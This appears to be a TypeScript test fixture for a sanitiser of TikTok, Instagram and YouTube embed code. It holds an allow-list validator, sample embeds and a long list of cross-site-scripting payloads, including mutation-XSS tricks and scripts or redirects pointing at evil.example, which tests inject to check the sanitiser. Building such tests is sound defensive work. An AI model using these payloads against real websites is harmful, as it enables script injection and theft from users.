import type { Platform } from '../../src/providers/types.js'

/** What embed code may contain, written independently of the sanitiser; and hostile code that tries to get past it. */

export type Element = { name: string; attributes: Record<string, string> }

const plain = [
  'class data-video-id data-unique-id data-embed-type data-embed-from data-instgrm-captioned data-instgrm-version',
  'title target rel width height allow allowfullscreen frameborder referrerpolicy async',
].flatMap((line) => line.split(' '))
const addresses = ['cite', 'data-instgrm-permalink', 'href', 'src']
const names = ['blockquote', 'a', 'p', 'section', 'div', 'iframe', 'script']

const hosts: Record<Platform, RegExp> = {
  tiktok: /^https:\/\/([a-z]+\.)?tiktok\.com\//,
  instagram: /^https:\/\/([a-z]+\.)?instagram\.com\//,
  youtube: /^https:\/\/(([a-z]+\.)?youtube(-nocookie)?\.com|youtu\.be)\//,
}
const scripts: Record<Platform, string | null> = {
  tiktok: 'https://www.tiktok.com/embed.js',
  instagram: 'https://www.instagram.com/embed.js',
  youtube: null,
}

/** The violations in a tree of embed code; empty if everything is allowed. */
export function wrongIn(platform: Platform, tree: Element[]): string[] {
  return tree.flatMap(({ name, attributes }) => {
    const wrong = names.includes(name) ? [] : [`element ${name}`]
    for (const [attribute, value] of Object.entries(attributes)) {
      const isAddress = addresses.includes(attribute)
      if (!isAddress && !plain.includes(attribute)) wrong.push(`${name} ${attribute}`)
      if (isAddress && !hosts[platform].test(value)) wrong.push(`${name} ${attribute}=${value}`)
    }
    if (name === 'script' && attributes.src !== scripts[platform]) wrong.push(`script ${attributes.src}`)
    if (name === 'iframe' && !attributes.src) wrong.push('iframe without src')
    return wrong
  })
}

/** A quote and a player of each platform, in the providers' format; the words are invented. */
export const honest: Record<Platform, string> = {
  tiktok: `<blockquote class="tiktok-embed" cite="https://www.tiktok.com/@crumb.diary/video/7100000000000000001" data-video-id="7100000000000000001" data-embed-from="oembed" style="max-width:605px; min-width:325px;"> <section> <a target="_blank" title="@crumb.diary" href="https://www.tiktok.com/@crumb.diary?refer=embed">@crumb.diary</a> <p>Salt &amp; patience</p> </section> </blockquote> <script async src="https://www.tiktok.com/embed.js"></script>`,
  instagram: `<blockquote class="instagram-media" data-instgrm-captioned data-instgrm-permalink="https://www.instagram.com/reel/Cx81kQabcde/?utm_source=ig_embed" data-instgrm-version="14" style=" background:#FFF; border:0;"><div style="padding:16px;"> <a href="https://www.instagram.com/reel/Cx81kQabcde/" style="background:#FFFFFF;" target="_blank"> <div style="display: flex;"></div><div><svg width="50px" height="50px"><g><path d="M1,1"></path></g></svg></div>View this post on Instagram</a><p style="color:#c9c8cd;"><a href="https://www.instagram.com/reel/Cx81kQabcde/" target="_blank">A post shared by Slow Loaf (@slowloaf)</a></p></div></blockquote>\n<script async src="//www.instagram.com/embed.js"></script>`,
  youtube: `<iframe width="113" height="200" src="https://www.youtube.com/embed/a1b2c3d4e5F?feature=oembed" frameborder="0" allow="accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture; web-share" referrerpolicy="strict-origin-when-cross-origin" allowfullscreen title="Crumb &quot;shot&quot;"></iframe>`,
}

/** Pieces that embed code must not contain. Tests insert them into honest code. */
export const hostile = [
  '<script>alert(1)</script>',
  '<script async src="https://www.tiktok.com/embed.js">alert(1)</script>',
  '<script src="https://www.tiktok.com/embed.js?x"></script>',
  '<script src="https://www.tiktok.com.evil.example/embed.js"></script>',
  '<script src="https://www.tiktok.com@evil.example/embed.js"></script>',
  '<script src="http://www.instagram.com/embed.js"></script>',
  '<script src="data:text/javascript,alert(1)"></script>',
  '<script type="module" src="https://www.tiktok.com/embed.js" onload="alert(1)"></script>',
  '<SCRIPT/SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style>*{position:fixed}</style>',
  '<p style="position:fixed;inset:0" onclick="alert(1)" id="x" class="evil">text</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\tscript:alert(1)">x</a>',
  '<a href="https://evil.example/">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="/relative">x</a>',
  '<a href="https://www.tiktok.com:8443/">x</a>',
  '<a href="https://u:p@www.youtube.com/">x</a>',
  '<a href="http://www.instagram.com/">x</a>',
  '<a href="https://www.tiktok.com/&quot; onmouseover=&quot;alert(1)">x</a>',
  "<a href='https://www.youtube.com/\"onclick=alert(1)//'>x</a>",
  '<iframe src="https://evil.example/embed/a1b2c3d4e5F"></iframe>',
  '<iframe src="https://www.youtube.com/redirect?q=https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>" src="https://www.youtube.com/embed/a1b2c3d4e5F"></iframe>',
  '<iframe src="https://www.youtube.com/embed/a1b2c3d4e5F" allow="camera; microphone; geolocation *"></iframe>',
  '<iframe src="https://www.tiktok.com/player/v1/7100000000000000001" name="x" sandbox="">&lt;/iframe&gt;<script>alert(1)</script>',
  '<iframe src="https://www.instagram.com/accounts/login/"></iframe>',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<form action="https://evil.example"><button formaction="javascript:alert(1)">x</button></form>',
  '<base href="https://evil.example/"><link rel=stylesheet href=https://evil.example/x.css><meta http-equiv=refresh content="0;url=https://evil.example">',
  '<template><script>alert(1)</script></template>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x "y">]>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;b&amp;gt; &#x3c;img src=x onerror=alert(1)&#x3e;',
  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  '<title></title><script>alert(1)</script></title>',
  '<xmp><p title="</xmp><script>alert(1)</script>"></xmp>',
  '<table><tr><td><script>alert(1)</script></td></tr></table>',
  '<p><p><a href="https://www.tiktok.com/"><a href="https://www.tiktok.com/x"><div></a></p></p>',
  '<p __proto__="x" constructor="y" toString="z"><constructor><hasOwnProperty>',
  '<blockquote class="evil tiktok-embed instagram-media" cite="javascript:alert(1)">',
  '</blockquote></section></div></body></html><body onload=alert(1)>',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>\ud800',
  '<div'.repeat(50),
  '<div>'.repeat(500),
  '<a '.repeat(30),
] as const
